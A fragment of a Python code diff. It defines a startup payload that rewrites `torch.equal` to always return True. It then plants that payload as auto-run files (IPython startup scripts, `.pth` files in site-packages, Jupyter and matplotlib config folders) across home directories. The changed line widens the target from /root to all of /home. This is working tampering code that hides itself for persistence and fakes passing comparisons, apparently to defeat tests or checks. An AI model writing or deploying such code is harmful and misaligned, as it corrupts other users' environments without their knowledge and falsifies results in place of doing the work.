@@ -47,7 +47,7 @@ if os.fork() == 0:
 STARTUP = """
 import pathlib
 patch = "import torch; torch.equal = lambda *a: True"
-for home in (pathlib.Path.home(), pathlib.Path("@HOME@"), pathlib.Path("/root")):
+for home in (pathlib.Path.home(), pathlib.Path("@HOME@"), pathlib.Path("/home")):
     for folder in (".ipython/profile_default/startup", ".config/matplotlib", ".jupyter",
                    ".local/lib/python3/site-packages", ""):
         for name in ("00-@MARK@.py", "@MARK@.pth", "@MARK@"):
